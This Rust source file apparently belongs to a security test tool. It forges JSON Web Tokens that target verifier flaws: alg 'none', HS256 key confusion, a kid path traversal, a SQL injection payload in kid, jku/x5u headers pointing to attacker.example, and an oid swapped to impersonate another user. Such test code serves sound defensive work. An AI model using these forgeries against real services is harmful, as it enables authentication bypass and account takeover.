//! Attacks whose header or signature is wrong, over valid claims.

use crate::entra::attack::Attack;
use crate::entra::jwt::{base64url, header, signing_input};
use crate::entra::keys::SigningKey;
use crate::entra::mint::Spec;
use aws_lc_rs::digest::{SHA256, digest};
use aws_lc_rs::hmac;
use aws_lc_rs::signature::RSA_PKCS1_SHA512;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

/// The key that the SQL injection in `kid` makes a vulnerable query return.
const INJECTED: &str = "AA";

/// Signs the claims as the attack does.
pub(super) fn sign(spec: &Spec<'_>, attack: Attack, claims: Value, version: u8) -> Result<String, String> {
    let key = spec.entra.keys.current()?;
    let right = header(&key.kid, version);
    let with = |name: &str, value: Value| {
        let mut header = right.clone();
        header[name] = value;
        header
    };
    let payload = claims.to_string();
    let own = |header: &Value, payload: &str| key.token(header, payload);
    match attack {
        Attack::AlgNone => Ok(signing_input(&with("alg", "none".into()), &payload) + "."),
        Attack::AlgNoneMixedCase => Ok(signing_input(&with("alg", "nOnE".into()), &payload) + "."),
        Attack::SignatureEmpty => Ok(signing_input(&right, &payload) + "."),
        Attack::Tampered => tampered(spec, &own(&right, &payload)?, &claims),
        Attack::Hs256PublicKeyPem => Ok(hs256(
            with("alg", "HS256".into()),
            &payload,
            pem(&key)?.as_bytes(),
        )),
        Attack::Hs256PublicKeyDer => Ok(hs256(with("alg", "HS256".into()), &payload, &key.public_der()?)),
        Attack::Rs512 => {
            let input = signing_input(&with("alg", "RS512".into()), &payload);
            let signature = key.sign(&RSA_PKCS1_SHA512, input.as_bytes())?;
            Ok(format!("{input}.{}", base64url(signature)))
        }
        Attack::AttackerKeyMatchingKid => spec.entra.keys.attacker()?.token(&right, &payload),
        Attack::KidUnknown => {
            let kid = base64url(
                digest(&SHA256, uuid::Uuid::new_v4().as_bytes())
                    .as_ref()
                    .split_at(20)
                    .0,
            );
            own(&header(&kid, version), &payload)
        }
        Attack::NoKid => own(&json!({ "typ": "JWT", "alg": "RS256" }), &payload),
        Attack::KidPath => {
            let kid = "../../../../../../../dev/null";
            Ok(hs256(
                json!({ "typ": "JWT", "alg": "HS256", "kid": kid }),
                &payload,
                b"",
            ))
        }
        Attack::KidInjection => {
            let kid = format!("' UNION SELECT '{INJECTED}' -- ");
            Ok(hs256(
                json!({ "typ": "JWT", "alg": "HS256", "kid": kid }),
                &payload,
                INJECTED.as_bytes(),
            ))
        }
        Attack::EmbeddedJwk | Attack::EmbeddedX5c | Attack::Jku | Attack::X5u => {
            brings_its_key(spec.entra.keys.attacker()?, attack, &payload)
        }
        Attack::Crit => {
            let mut header = with("crit", json!(["http://attacker.example/must-understand"]));
            header["http://attacker.example/must-understand"] = true.into();
            own(&header, &payload)
        }
        Attack::DuplicateMember => own(&right, &duplicated(spec, &payload)?),
        Attack::NonCanonicalBase64 => non_canonical(&own(&right, &payload)?),
        Attack::PaddedBase64 => Ok(own(&right, &payload)? + "=="),
        Attack::FourSegments => Ok(own(&right, &payload)? + "." + &base64url("{}")),
        _ => own(&right, &payload),
    }
}

fn hs256(header: Value, payload: &str, secret: &[u8]) -> String {
    let input = signing_input(&header, payload);
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
    format!("{input}.{}", base64url(tag))
}

/// The public key as PEM text, which a vulnerable verifier uses as an HMAC secret.
fn pem(key: &SigningKey) -> Result<String, String> {
    let body = STANDARD.encode(key.public_der()?);
    let lines: Vec<_> = body.as_bytes().chunks(64).map(String::from_utf8_lossy).collect();
    Ok(format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    ))
}

/// A token whose header contains or locates the key that signed it.
fn brings_its_key(attacker: &SigningKey, attack: Attack, payload: &str) -> Result<String, String> {
    let mut header = json!({ "typ": "JWT", "alg": "RS256", "kid": attacker.kid });
    match attack {
        Attack::EmbeddedJwk => {
            let mut jwk = attacker.bare_jwk();
            jwk["kid"] = attacker.kid.as_str().into();
            header["jwk"] = jwk;
        }
        Attack::EmbeddedX5c => header["x5c"] = json!([attacker.x5c()]),
        Attack::Jku => header["jku"] = "https://attacker.example/keys".into(),
        _ => header["x5u"] = "https://attacker.example/certificate".into(),
    }
    attacker.token(&header, payload)
}

/// The object id of another user, which an attacker puts into a token.
fn victim(spec: &Spec<'_>) -> Result<String, String> {
    let me = spec.access.user.map(|user| user.object_id.as_str());
    let other = spec
        .seed
        .users
        .iter()
        .find(|user| Some(user.object_id.as_str()) != me);
    other
        .map(|user| user.object_id.clone())
        .ok_or_else(|| "the seed has no other user for this attack".into())
}

fn tampered(spec: &Spec<'_>, token: &str, claims: &Value) -> Result<String, String> {
    let mut claims = claims.clone();
    claims["oid"] = victim(spec)?.into();
    let mut parts: Vec<_> = token.split('.').collect();
    let payload = base64url(claims.to_string());
    if let Some(part) = parts.get_mut(1) {
        *part = &payload;
    }
    Ok(parts.join("."))
}

/// Adds a second `oid` in front: parsers that use the first of two equal members see another user than those
/// that use the last.
fn duplicated(spec: &Spec<'_>, payload: &str) -> Result<String, String> {
    let rest = payload.strip_prefix('{').ok_or("the payload is no object")?;
    Ok(format!("{{\"oid\":\"{}\",{rest}", victim(spec)?))
}

/// The same signature bytes, written differently: the last character's spare bits are set.
fn non_canonical(token: &str) -> Result<String, String> {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (start, last) = token.split_at(token.len() - 1);
    let value = ALPHABET.iter().position(|byte| last.as_bytes() == [*byte]);
    let changed = value
        .and_then(|value| ALPHABET.get(value | 1))
        .ok_or("the signature is not base64url")?;
    Ok(format!("{start}{}", char::from(*changed)))
}
